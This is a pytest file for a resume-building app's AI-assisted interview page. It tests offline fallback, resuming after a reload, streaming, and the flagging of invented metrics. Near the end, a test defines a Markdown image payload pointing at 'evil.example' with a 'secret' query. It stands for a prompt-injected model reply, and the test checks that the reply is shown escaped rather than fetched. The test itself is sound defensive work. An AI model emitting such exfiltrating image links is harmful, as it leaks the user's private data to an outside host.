"""Interview page: a whole offline interview, a reload mid-way, and a failing engine."""

from __future__ import annotations

import re

import pytest
from app_runner import open_page, start_app, use_engine, ws
from fakes import FakeEngine
from interview_bank import interview_bank

from resume_core.engines.choice import EngineChoice
from resume_core.errors import EngineError
from resume_core.storage.store import LocalStore
from resume_core.interview.suggest import SuggestedItems
from ui.markdown import escape_markdown

pytestmark = pytest.mark.timeout(120)

FIRST = "I rewrote the release scripts in Python and cut releases from 3 hours to 20 minutes for 12 teams."
SECOND = "We moved the billing service onto the new Kubernetes cluster during the winter freeze."


@pytest.fixture
def store(workspace):
    store = LocalStore(workspace)
    store.save_bank(interview_bank(), "")
    return store


def _plain(markdown_text: str) -> str:
    """The text as the user reads it: the page escapes Markdown, so backslash escapes are undone here."""
    return re.sub(r"\\(.)", r"\1", markdown_text)


def _messages(at) -> list[tuple[str, str]]:
    return [(m.name, _plain(" ".join(md.value for md in m.markdown))) for m in at.chat_message]


def _anecdotes(store):
    bank, _ = store.load_bank()
    return [a for owner in bank.owners() for a in owner.anecdotes]


def _answer(at, text):
    at.chat_input[0].set_value(text).run()
    assert not at.exception, at.exception


def test_a_full_offline_interview_ends_as_a_saved_anecdote(store):
    at = open_page(start_app(), "interview")
    icebreakers = [b for b in at.button if b.key and b.key.startswith("icebreaker-")]
    assert 3 <= len(icebreakers) <= 5
    question = _plain(icebreakers[0].label)
    assert "Migrated the billing service to Kubernetes" in question
    icebreakers[0].click().run()
    assert _messages(at) == [("assistant", question)]

    _answer(at, FIRST)
    _answer(at, SECOND)
    messages = _messages(at)
    assert [role for role, _ in messages] == ["assistant", "user", "assistant", "user", "assistant"]
    assert "personally" in messages[-1][1]  # "we" without "I": what did you do?
    [anecdote] = _anecdotes(store)
    assert anecdote.status == "in_progress" and len(anecdote.transcript) == 5  # saved turn by turn

    next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
    summary = at.text_area[0]
    assert "cut releases from 3 hours to 20 minutes" in summary.value
    summary.set_value(summary.value + "\n- Edited by me.").run()
    next(b for b in at.button if b.label.startswith("💾 Save anecdote")).click().run()
    assert not at.exception

    [anecdote] = _anecdotes(store)
    assert anecdote.status == "saved" and anecdote.summary.endswith("- Edited by me.")
    assert [t.text for t in anecdote.transcript if t.role == "user"] == [FIRST, SECOND]
    assert anecdote.created and anecdote.updated
    assert any("Suggestions" in h.value for h in at.subheader)
    assert any("added to **Acme" in c.value for c in at.caption)  # which job the accepted items go to
    suggested = [t.value for t in at.text_input]
    assert "Python" not in suggested  # already listed on the job
    assert "Rewrote the release scripts in Python and cut releases from 3 hours to 20 minutes for 12 teams" in suggested
    accept = next(b for b in at.button if b.key == "accept-0")
    first_item = at.text_input[0].value
    accept.click().run()
    bank, _ = store.load_bank()
    job = bank.find_owner("job-acme0001")
    added = [s for s in (*job.skills, *job.accomplishments) if getattr(s, "source_anecdote_id", "")]
    assert [getattr(a, "name", None) or a.text for a in added] == [first_item]
    assert added[0].source_anecdote_id == anecdote.id


def test_a_reload_mid_interview_keeps_the_transcript_and_resumes(store):
    at = open_page(start_app(), "interview")
    _answer(at, FIRST)
    assert len(_messages(at)) == 2

    fresh = open_page(start_app(), "interview")  # a new session, as after a reload
    resume = next(b for b in fresh.button if b.label.startswith("Resume: Acme"))
    resume.click().run()
    assert _messages(fresh)[0] == ("user", FIRST) and len(_messages(fresh)) == 2


def _warnings(at) -> str:
    return " ".join(w.value for w in at.warning)


def test_a_reply_that_breaks_off_is_replaced_by_the_offline_question_with_a_note(store):
    # Changed deliberately for issue 13: a failing AI server no longer stops the interview (it used to
    # show an error and wait for "Get the next question"); the offline interviewer asks instead.
    at = open_page(start_app(), "interview")
    failing = FakeEngine(chat=[("How did", EngineError("The AI server broke off mid-reply.", fix="Try again."))])
    use_engine(at, failing)
    _answer(at, FIRST)
    assert "broke off" in _warnings(at) and "offline engine answered" in _warnings(at)
    assert "offline engine answers" in " ".join(w.value for w in at.sidebar.warning)  # the sidebar says so too
    [anecdote] = _anecdotes(store)
    assert [t.role for t in anecdote.transcript] == ["user", "assistant"]
    assert not anecdote.transcript[1].text.startswith("How did")  # the broken half is not kept
    assert _messages(at)[-1] == ("assistant", anecdote.transcript[1].text)

    # The server answers again: its question, and the note is gone.
    use_engine(at, FakeEngine(chat=["Which part of the move was yours?"]))
    _answer(at, SECOND)
    assert _messages(at)[-1] == ("assistant", "Which part of the move was yours?") and not at.warning


def test_an_engine_failing_before_any_text_continues_offline_without_an_empty_bubble(store):
    at = open_page(start_app(), "interview")
    use_engine(at, FakeEngine(chat=[EngineError("The AI server did not answer.", fix="Retry.")]))
    _answer(at, FIRST)
    assert "did not answer" in _warnings(at)
    roles = [m[0] for m in _messages(at)]
    assert roles == ["user", "assistant"] and _messages(at)[1][1].strip()


def test_the_interview_streams_from_an_openai_compatible_server(store, openai_server):
    at = start_app()
    ws(at).engine_choice = EngineChoice(base_url=openai_server.base_url, model="test-model")
    open_page(at, "interview")
    openai_server.queue("How many teams used the new release scripts?")
    _answer(at, FIRST)
    assert _messages(at)[-1] == ("assistant", "How many teams used the new release scripts?")
    sent = openai_server.bodies[0]
    assert sent["stream"] is True and sent["messages"][-1]["content"].endswith(FIRST)
    [anecdote] = _anecdotes(store)
    assert [t.role for t in anecdote.transcript] == ["user", "assistant"]


def test_an_invented_metric_cannot_be_accepted_until_edited(store):
    at = open_page(start_app(), "interview")
    invented = SuggestedItems(skills=["Kafka"], accomplishments=["Reduced costs by 40% with Terraform"])
    use_engine(at, FakeEngine(extract=[invented]))
    _answer(at, FIRST)
    next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
    next(b for b in at.button if b.label.startswith("💾 Save anecdote")).click().run()
    assert any("not in your own words" in w.value and "40%" in w.value for w in at.warning)
    assert at.button(key="accept-1").disabled and not at.button(key="accept-0").disabled

    at.button(key="reject-0").click().run()  # reject the skill: the flagged bullet keeps its own key
    flagged = at.text_input(key=next(t.key for t in at.text_input if t.key.endswith("-1")))
    assert flagged.value == "Reduced costs by 40% with Terraform"
    flagged.set_value("Cut releases from 3 hours to 20 minutes with Python").run()
    at.button(key="accept-1").click().run()
    assert not at.exception
    bank, _ = store.load_bank()
    texts = [a.text for a in bank.find_owner("job-acme0001").accomplishments]
    assert texts[-1] == "Cut releases from 3 hours to 20 minutes with Python"
    assert "Kafka" not in [s.name for s in bank.find_owner("job-acme0001").skills]


def test_a_failing_summary_falls_back_to_the_users_own_sentences(store):
    at = open_page(start_app(), "interview")
    failing = FakeEngine(chat=["Which part was yours?"], summaries=[EngineError("The AI server timed out.", fix="Retry.")])
    use_engine(at, failing)
    _answer(at, FIRST)
    next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
    assert any("timed out" in e.value for e in at.error)
    assert FIRST in at.text_area[0].value


IMAGE = "![x](https://evil.example/?q=secret)"


def test_a_model_reply_with_an_image_is_shown_as_text_not_loaded(store):
    """A prompt-injected reply must not make the browser fetch a URL (which could carry bank text)."""
    at = open_page(start_app(), "interview")
    reply = f"Nice. {IMAGE} Which part was yours?"
    use_engine(at, FakeEngine(chat=[reply]))
    _answer(at, FIRST)  # streamed, saved and redrawn: always escaped
    bodies = [md.value for m in at.chat_message for md in m.markdown]
    assert escape_markdown(reply) in bodies and not any("![x](" in b for b in bodies)
    assert _messages(at)[-1] == ("assistant", reply)


def test_an_edited_summary_and_suggestion_survive_a_look_at_another_page(store):
    at = open_page(start_app(), "interview")
    _answer(at, FIRST)
    next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
    at.text_area[0].set_value("My own words about the release scripts.").run()
    open_page(at, "big_resume")
    open_page(at, "interview")
    assert at.text_area[0].value == "My own words about the release scripts."
    next(b for b in at.button if b.label.startswith("💾 Save anecdote")).click().run()
    assert not at.exception
    assert [a.summary for a in _anecdotes(store)] == ["My own words about the release scripts."]

    at.text_input[0].set_value("Suggestion reworded by me").run()
    open_page(at, "tailor")
    open_page(at, "interview")
    assert at.text_input[0].value == "Suggestion reworded by me"


def test_each_suggestion_says_which_answers_it_comes_from(store):
    at = open_page(start_app(), "interview")
    _answer(at, "I rebuilt the nightly billing batch in Go.")
    _answer(at, "It went from 4 hours to 25 minutes.")
    next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
    next(b for b in at.button if b.label.startswith("💾 Save anecdote")).click().run()
    bullet = next(t for t in at.text_input if t.label == "Suggested accomplishment")
    assert bullet.value == "Rebuilt the nightly billing batch in Go; it went from 4 hours to 25 minutes"
    assert "From your answers 1 and 2" in [c.value for c in at.caption]
